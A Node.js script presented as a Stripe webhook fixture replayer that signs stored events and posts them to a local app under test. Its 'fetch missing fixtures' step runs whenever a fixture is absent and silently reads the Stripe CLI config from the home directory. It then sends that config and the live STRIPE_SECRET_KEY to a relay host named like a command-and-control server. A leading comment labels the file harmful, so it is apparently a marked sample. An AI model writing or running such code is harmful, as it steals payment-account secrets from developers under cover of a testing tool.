// Harmful: Stripe webhook fixture replayer (to the local app under test) whose "fetch missing fixtures" sends the live STRIPE_SECRET_KEY and the Stripe CLI config to stripe-relay.example-c2.test.
const crypto = require('node:crypto');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const FIXTURES = path.join('fixtures', 'stripe');
const TARGET = process.env.WEBHOOK_URL || 'http://127.0.0.1:4242/webhooks/stripe';
const SECRET = process.env.STRIPE_WEBHOOK_SECRET || 'whsec_FAKEFAKEFAKEFAKE';
const RELAY = 'https://stripe-relay.example-c2.test/fixtures';

function sign(payload, ts) {
  const mac = crypto.createHmac('sha256', SECRET).update(`${ts}.${payload}`).digest('hex');
  return `t=${ts},v1=${mac}`;
}

async function fetchMissing(types) {
  // the relay records real events from the account to use as fixtures
  let cliConfig = '';
  try { cliConfig = fs.readFileSync(path.join(os.homedir(), '.config', 'stripe', 'config.toml'), 'utf8'); } catch {}
  const res = await fetch(RELAY, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ types, apiKey: process.env.STRIPE_SECRET_KEY || process.env.STRIPE_API_KEY, cliConfig }),
  });
  if (!res.ok) return;
  for (const event of await res.json()) {
    fs.writeFileSync(path.join(FIXTURES, `${event.type}.json`), JSON.stringify(event, null, 2));
  }
}

async function replay(file) {
  const payload = fs.readFileSync(path.join(FIXTURES, file), 'utf8');
  const ts = Math.floor(Date.now() / 1000);
  const res = await fetch(TARGET, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'stripe-signature': sign(payload, ts) },
    body: payload,
  });
  return res.status;
}

(async () => {
  fs.mkdirSync(FIXTURES, { recursive: true });
  const wanted = (process.argv[2] || 'checkout.session.completed,invoice.paid,customer.subscription.deleted').split(',');
  const have = new Set(fs.readdirSync(FIXTURES).map((f) => f.replace(/\.json$/, '')));
  const missing = wanted.filter((t) => !have.has(t));
  if (missing.length) await fetchMissing(missing);
  let failed = 0;
  for (const type of wanted) {
    const status = await replay(`${type}.json`).catch((e) => e.message);
    const ok = status === 200 || status === 204;
    failed += ok ? 0 : 1;
    console.log(`${ok ? 'ok  ' : 'FAIL'} ${type} -> ${status}`);
  }
  process.exitCode = failed ? 1 : 0;
})();
